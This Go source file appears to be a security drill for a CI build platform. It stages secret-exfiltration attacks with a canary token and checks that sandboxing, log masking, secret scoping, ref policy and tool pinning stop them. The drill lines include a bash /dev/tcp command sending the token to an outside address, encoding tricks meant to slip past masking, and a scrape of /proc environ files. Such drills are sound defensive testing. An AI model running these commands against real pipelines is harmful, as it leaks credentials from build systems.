// SPDX-FileCopyrightText: The Hallmark Authors
// SPDX-License-Identifier: Apache-2.0

package drill

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"

	"github.com/hallmark-sc/hallmark"
	"github.com/hallmark-sc/hallmark/internal/app"
	"github.com/hallmark-sc/hallmark/internal/build"
	"github.com/hallmark-sc/hallmark/internal/pipeline"
	"github.com/hallmark-sc/hallmark/internal/sandbox"
)

// at10 is "a tool of the pipeline was exchanged and takes secrets along" (the
// bash uploader of 2021), as far as the sandbox answers it (a to d, in which the tool runs) and where it is
// pinned (e).
func at10() []Case {
	return []Case{
		{
			Attack: "AT-10", Letter: "a", Does: "a tool posts the secret of its step to a server", Control: "the sandbox: own network only, and an attempt to leave fails the build",
			Stops: hallmark.CodeBuildEgress, Residual: "a secret in the output of the step that was given it", attack: postSecret,
		},
		{
			Attack: "AT-10", Letter: "b", Does: "a tool prints the secret of its step, reversed, in base64 and in hexadecimal", Control: "what was given is masked in what is printed",
			Stops: hallmark.CodeSecretMasked, Residual: "a spelling that nobody looks for: encryption, compression, one character a line", attack: printSecret,
		},
		{
			Attack: "AT-10", Letter: "c", Does: "a tool looks for the secret of another step", Control: "a step is given the secrets that it names",
			Stops: hallmark.CodeSecretNotNamed, Residual: "what the step that was given it leaves in the workspace", attack: othersSecret,
		},
		{
			Attack: "AT-10", Letter: "d", Does: "a revision of an untrusted branch names a secret", Control: "the policy names the refs whose builds may have secrets",
			Stops: hallmark.CodeSecretRefused, Residual: "whoever may write to a trusted ref", attack: untrustedSecret,
		},
		{
			Attack: "AT-10", Letter: "e", Does: "the server from which the platform gets a tool gives other bytes before the second of two runs", Control: "the approved inventory pins the tool by its digest",
			Stops: hallmark.CodeBuildTool, Residual: "a tool that was bad when it was pinned", attack: changedTool,
		},
	}
}

// trustedRef is the branch of the drill's projects.
const trustedRef = "main"

const secretCanary = "drill/secret+canary-4711"

// withSecret prepares the home: secrets for the branch main, and one to give.
func (g *ground) withSecret(ctx context.Context) error {
	_, err := keep(g, "secret", func() (bool, error) {
		file := g.path("token")
		if err := os.WriteFile(file, []byte(secretCanary+"\n"), 0o600); err != nil {
			return false, fmt.Errorf("writing the secret: %w", err)
		}
		if _, err := app.PolicySet(ctx, g.home.Home, nil, [][2]string{{"build.secrets", "refs/heads/main"}}); err != nil {
			return false, fmt.Errorf("letting main have secrets: %w", err)
		}
		return true, nil
	})
	g.secrets = []string{"TOKEN=" + g.path("token")}
	return err
}

// secretly is a pipeline whose first step is given the secret.
func secretly(step, test string, artifacts ...string) string {
	return strings.Replace(definition(step, test, artifacts...), "    - name: test", "      secrets: [TOKEN]\n    - name: test", 1)
}

// readToken works with a descriptor, and with a variable where that is how
// secrets are given.
const readToken = `if [ -n "$HALLMARK_SECRET_TOKEN_FD" ]; then read -r TOKEN <&3; fi; mkdir -p out; `

func postSecret(ctx context.Context, g *ground, c Control) (effect, error) {
	if err := g.withSecret(ctx); err != nil {
		return effect{}, err
	}
	l, err := keep(g, "listeners", func() (*listeners, error) { return g.listen() })
	if err != nil {
		return effect{}, err
	}
	post := fmt.Sprintf(`for to in 127.0.0.1/%d 192.0.2.10/443; do TOKEN="$TOKEN" timeout 10 bash -c "exec 3<>/dev/tcp/$to && echo \"\$TOKEN\" >&3" 2>/dev/null && break || :; done; echo ok > out/app`, l.port)
	r, err := g.project("post", map[string]string{"uploader.txt": readToken + post + "\n", pipeline.PipelineFile: secretly(". ./uploader.txt", "test -s out/app", "out/app")})
	if err != nil {
		return effect{}, err
	}
	r.commit = trustedRef
	before, err := l.heard()
	if err != nil {
		return effect{}, err
	}
	f, err := g.run(ctx, r, compose(func(p *app.BuildParts) {
		if c == Off {
			p.Engine = func(place app.BuildPlace) build.Engine { return unboxed{place: place, promises: g.promises} }
		}
	}))
	if err != nil {
		return effect{}, err
	}
	after, err := l.heard()
	if err != nil {
		return effect{}, err
	}
	if after > before {
		return effect{done: true, detail: "the server has the secret"}, nil
	}
	return effect{reason: hallmark.CodeBuildEgress, detail: "0 connections"}, f.denied(ctx, hallmark.CodeBuildEgress)
}

// plainly hides nothing.
type plainly struct{ io.Writer }

func (plainly) Flush() error { return nil }

func printSecret(ctx context.Context, g *ground, c Control) (effect, error) {
	if err := g.withSecret(ctx); err != nil {
		return effect{}, err
	}
	step := readToken + `echo "$TOKEN"; printf %s "$TOKEN" | rev; printf %s "$TOKEN" | base64; printf x%s "$TOKEN" | base64; printf xy%s "$TOKEN" | base64 -w 10; printf %s "$TOKEN" | od -An -tx1; echo printed; echo ok > out/app`
	r, err := g.project("print", map[string]string{pipeline.PipelineFile: secretly(step, "test -s out/app", "out/app")})
	if err != nil {
		return effect{}, err
	}
	r.commit = trustedRef
	var log bytes.Buffer
	f, err := g.run(ctx, r, compose(func(p *app.BuildParts) {
		mask := p.Mask
		p.Mask = func(out io.Writer, secrets map[string][]byte) build.Masker {
			both := io.MultiWriter(out, &log)
			if c == Off {
				return plainly{both}
			}
			return mask(both, secrets)
		}
	}))
	if err != nil {
		return effect{}, err
	}
	if f.artifact("app") == nil || !strings.Contains(log.String(), "printed") {
		return effect{}, fmt.Errorf("the step did not print: %s", f.codes())
	}
	if how := spelled(log.Bytes(), secretCanary); how != "" {
		return effect{done: true, detail: "the log holds the secret " + how}, nil
	}
	return effect{reason: hallmark.CodeSecretMasked, detail: "no spelling of the secret is in the log"}, nil
}

// spelled says how a text holds a word, looking otherwise than the mask does: it
// undoes the encodings.
func spelled(text []byte, word string) string {
	back := []byte(word)
	slices.Reverse(back)
	if bytes.Contains(text, []byte(word)) {
		return "plain"
	}
	if bytes.Contains(text, back) {
		return "reversed"
	}
	joined := strings.Join(strings.Fields(string(text)), "")
	for _, piece := range append(strings.Fields(string(text)), joined) {
		for start := range min(4, len(piece)) {
			if b, _ := base64.StdEncoding.DecodeString(piece[start:]); bytes.Contains(b, []byte(word)) {
				return "in base64"
			}
		}
	}
	if strings.Contains(joined, hex.EncodeToString([]byte(word))) {
		return "in hexadecimal"
	}
	return ""
}

// generous gives every step every secret.
type generous struct {
	build.Engine
	all []build.Secret
}

// Run implements build.Engine.
func (e generous) Run(ctx context.Context, c build.Command, out io.Writer) (build.CommandReport, error) {
	c.Secrets = e.all
	return e.Engine.Run(ctx, c, out)
}

func othersSecret(ctx context.Context, g *ground, c Control) (effect, error) {
	if err := g.withSecret(ctx); err != nil {
		return effect{}, err
	}
	look := `{ env; cat <&3; } > loot 2>/dev/null || :; cat /proc/[0-9]*/environ >> loot 2>/dev/null || :; if grep -q drill/secret loot; then echo got; else echo none; fi > out/app`
	r, err := g.project("others", map[string]string{pipeline.PipelineFile: secretly("mkdir -p out; read -r TOKEN <&3", look, "out/app")})
	if err != nil {
		return effect{}, err
	}
	r.commit = trustedRef
	f, err := g.run(ctx, r, compose(func(p *app.BuildParts) {
		engine := p.Engine
		p.Engine = func(place app.BuildPlace) build.Engine {
			if c == On {
				return engine(place)
			}
			return generous{Engine: engine(place), all: []build.Secret{{Name: "TOKEN", Value: []byte(secretCanary + "\n")}}}
		}
	}))
	if err != nil {
		return effect{}, err
	}
	switch strings.TrimSpace(string(f.artifact("app"))) {
	case "got":
		return effect{done: true, detail: "a step has a secret that it does not name"}, nil
	case none:
		return effect{reason: hallmark.CodeSecretNotNamed, detail: "the other step has no descriptor and no variable"}, nil
	}
	return effect{}, fmt.Errorf("the step did not look: %s", f.codes())
}

func untrustedSecret(ctx context.Context, g *ground, c Control) (effect, error) {
	if err := g.withSecret(ctx); err != nil {
		return effect{}, err
	}
	r, err := g.project("untrusted", map[string]string{pipeline.PipelineFile: secretly(readToken+"printf %s \"$TOKEN\" | sha256sum > out/app", "test -s out/app", "out/app")})
	if err != nil {
		return effect{}, err
	}
	if _, err := git(ctx, r, "", "branch", "-f", "contribution", r.commit); err != nil {
		return effect{}, err
	}
	r.commit = "contribution"
	f, err := g.run(ctx, r, compose(func(p *app.BuildParts) {
		if c == Off {
			p.Secrets = func(*build.Pipeline, string, []string) []hallmark.Reason { return nil }
		}
	}))
	if err != nil {
		return effect{}, err
	}
	want := hallmark.DigestOf([]byte(secretCanary)).Hex()
	if strings.HasPrefix(string(f.artifact("app")), want) {
		return effect{done: true, detail: "a contribution's build had the secret"}, nil
	}
	return effect{reason: hallmark.CodeSecretRefused, detail: "no step ran"}, f.denied(ctx, hallmark.CodeSecretRefused)
}

// changedTool: the platform is provided with the tool of a server before each run,
// as runners are. What it gave at first was looked over and pinned.
func changedTool(ctx context.Context, g *ground, c Control) (effect, error) {
	first, second := []byte("#!/bin/sh\necho reviewed\n"), []byte("#!/bin/sh\necho poisoned\n")
	const at = "/opt/drill/report"
	s, err := keep(g, "tool server", func() (*toolServer, error) { return g.serveTool() })
	if err != nil {
		return effect{}, err
	}
	if err := g.approve(ctx, "allow", build.InventoryProgram{Path: at, Digest: hallmark.DigestOf(first)}); err != nil {
		return effect{}, err
	}
	r, err := g.project("changed", map[string]string{pipeline.PipelineFile: definition("mkdir -p out; "+at+" > out/app", "test -s out/app", "out/app")})
	if err != nil {
		return effect{}, err
	}
	var f finished
	for _, now := range [][]byte{first, second} {
		s.give(now)
		got, err := s.fetch(ctx)
		if err != nil {
			return effect{}, err
		}
		dir, err := g.tool("report", got)
		if err != nil {
			return effect{}, err
		}
		f, err = g.run(ctx, r, compose(func(p *app.BuildParts) {
			if c == Off {
				anyTool(p)
			}
			onPlatform(p, sandbox.Mount{Source: dir, Target: "/opt/drill"})
		}))
		if err != nil {
			return effect{}, err
		}
		if bytes.Equal(now, first) && string(f.artifact("app")) != clean {
			return effect{}, fmt.Errorf("the pinned tool does not run: %s", f.codes())
		}
	}
	return f.toolEffect(ctx, hallmark.CodeBuildTool, at, string(hallmark.DigestOf(first)), string(hallmark.DigestOf(second)))
}
